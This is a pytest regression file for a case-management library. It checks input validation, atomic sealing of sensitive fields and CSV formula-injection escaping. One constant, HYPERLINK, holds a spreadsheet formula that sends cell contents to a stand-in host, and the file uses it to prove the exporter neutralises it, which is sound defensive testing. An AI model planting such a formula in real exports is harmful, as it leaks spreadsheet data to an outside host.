"""Validate at the door: classification refuses bad arguments cleanly and changes nothing.

Regression tests for reproductions the atomicity fuzz (``casekit.testing.fuzz``) found, and
the CSV formula-injection rule; the fuzz itself runs in tests/testing/test_fuzz_public_api.py.
"""

from __future__ import annotations

import csv
import io
from types import ModuleType
from typing import Any

import pytest

from casekit import ManualClock
from casekit.cases import Owner
from casekit.classification import (
    DocTemplate,
    Field,
    MemoryVault,
    SavedReport,
    Sensitive,
    Step,
    TaskSpec,
    classify,
    document,
)
from casekit.classification.reports import neutralise
from casekit.errors import ValidationError
from casekit.testing.fuzz import snapshot

PERSON = {"Participant Name(s)": "Jo Doe", "MA": "MA-55501234", "SSN": "123-45-6789"}
INCORRECT = {**PERSON, "Correct MCO Choice": "Priority Partners"}
HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click me")'


@pytest.mark.parametrize("bad_ssn", ["", "   ", None, 123456789, "12\x0034"])
def test_seal_only_after_every_field_validated(
    mco: ModuleType, clock: ManualClock, bad_ssn: object
) -> None:
    """Rule: a document refused for a bad SSN leaves nothing sealed (not even the MA)."""
    case = mco.TrackerCase.create(owner=Owner.user("csr-ana"), clock=clock)
    vault = MemoryVault()
    before = snapshot(case)
    with pytest.raises(ValidationError, match="SSN"):
        document(
            case,
            mco.TAXONOMY,
            "Incorrect Selection",
            {**INCORRECT, "SSN": bad_ssn},  # type: ignore[dict-item]
            actor="csr-ana",
            vault=vault,
        )
    assert len(vault) == 0
    assert snapshot(case) == before


def test_fill_refused_for_a_later_plain_field_seals_nothing(mco: ModuleType) -> None:
    """Rule: every value is checked before the first is sealed, whatever the field order."""
    vault = MemoryVault()
    with pytest.raises(ValidationError, match="Correct MCO Choice"):
        mco.TAXONOMY.template("Incorrect Selection").fill(
            {**INCORRECT, "Correct MCO Choice": "  "}, vault=vault
        )
    assert len(vault) == 0


@pytest.mark.parametrize("truthy", ["yes", "false", 1, None])
def test_sensitive_must_be_a_bool_not_a_truthy_string(truthy: object) -> None:
    """Rule: a truthy string is not True: Field(sensitive=...) takes a bool."""
    with pytest.raises(ValidationError, match="sensitive must be True or False"):
        Field("SSN", sensitive=truthy)  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="required must be True or False"):
        Field("SSN", required=truthy)  # type: ignore[arg-type]


def test_field_names_are_one_name_or_a_collection_of_names() -> None:
    assert Field("New MCO", alternatives="New Provider").names == ("New MCO", "New Provider")
    with pytest.raises(ValidationError):
        Field("New MCO", alternatives=42)  # type: ignore[arg-type]
    with pytest.raises(ValidationError):
        Field("New MCO", choices=["", "x"])


def test_template_subjects_must_be_well_formed() -> None:
    with pytest.raises(ValidationError, match="not a valid template"):
        DocTemplate("T", (Field("Name"),), subject="{Name")
    with pytest.raises(ValidationError, match="format spec"):
        DocTemplate("T", (Field("Name"),), subject="{Name:d}")


def test_classify_with_a_blank_actor_changes_nothing(mco: ModuleType, recorded: Any) -> None:
    """Rule: the actor is checked before the classification is applied (was half-changed)."""
    case = recorded()
    before = snapshot(case)
    with pytest.raises(ValidationError, match="actor classifying"):
        classify(
            case,
            record_type="Medicaid",
            category="MCO Plan Shopping",
            sub_category="Angela Melody",
            disposition="Question Answered",
            actor="   ",
        )
    assert snapshot(case) == before


def test_flow_run_checks_its_reason_and_actor(mco: ModuleType, recorded: Any) -> None:
    case = recorded()
    with pytest.raises(ValidationError, match="reason"):
        mco.PROCEDURE.run(case, "vet_true", actor="qc-1", reason=42)
    with pytest.raises(ValidationError, match="actor"):
        mco.PROCEDURE.run(case, "vet_true", actor=["qc-1"])
    with pytest.raises(ValidationError, match="ClassifiedCase"):
        mco.PROCEDURE.run("MCO-1", "vet_true", actor="qc-1")


def test_step_and_task_constructors_check_their_arguments() -> None:
    with pytest.raises(ValidationError, match="reason_required must be True or False"):
        Step("go", "Medicaid / Shopping", reason_required="yes")  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="task"):
        Step("go", "Medicaid / Shopping", task="call them")  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="assignee"):
        TaskSpec("Call", None)  # type: ignore[arg-type]


def test_vaults_and_seals_refuse_bad_arguments_without_showing_values() -> None:
    vault = MemoryVault()
    with pytest.raises(ValidationError, match="value not shown") as refused:
        vault.put("SSN", "123\x00456789")
    assert "456789" not in str(refused.value)
    with pytest.raises(ValidationError, match="kind"):
        vault.put(None, "123-45-6789")  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="Vault"):
        Sensitive.seal("123-45-6789", kind="SSN", vault="my vault")  # type: ignore[arg-type]
    assert len(vault) == 0


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_formula_injection_cells_are_neutralised(trigger: str) -> None:
    """Rule: cells starting with = + - @ tab or CR get a leading single quote (OWASP)."""
    assert neutralise(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralise("MCO-17") == "MCO-17"
    assert neutralise("") == ""


def test_csv_export_neutralises_a_hyperlink_case_id(mco: ModuleType, recorded: Any) -> None:
    """Rule: SavedReport.to_csv never writes a formula a spreadsheet would run."""
    case = recorded(case_id=HYPERLINK)
    text = SavedReport("all").run([case]).to_csv()
    row = next(r for r in csv.reader(io.StringIO(text)) if r[0] != "Case Number")
    assert row[0] == "'" + HYPERLINK
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    # The records and the DataFrame keep the value as it is: only the CSV is for spreadsheets.
    assert SavedReport("all").run([case]).to_records()[0]["Case Number"] == HYPERLINK


def test_reports_refuse_what_they_cannot_run_on(mco: ModuleType) -> None:
    with pytest.raises(ValidationError, match="iterable of cases"):
        mco.TO_VET.run(None)
    with pytest.raises(ValidationError, match="a case"):
        mco.TO_VET.matches("MCO-1")
    with pytest.raises(ValidationError, match="text stream"):
        SavedReport("all").run([]).to_csv(out="report.csv")  # type: ignore[arg-type]
    with pytest.raises(ValidationError, match="report filter value"):
        SavedReport("r", statuses=[None])  # type: ignore[list-item]
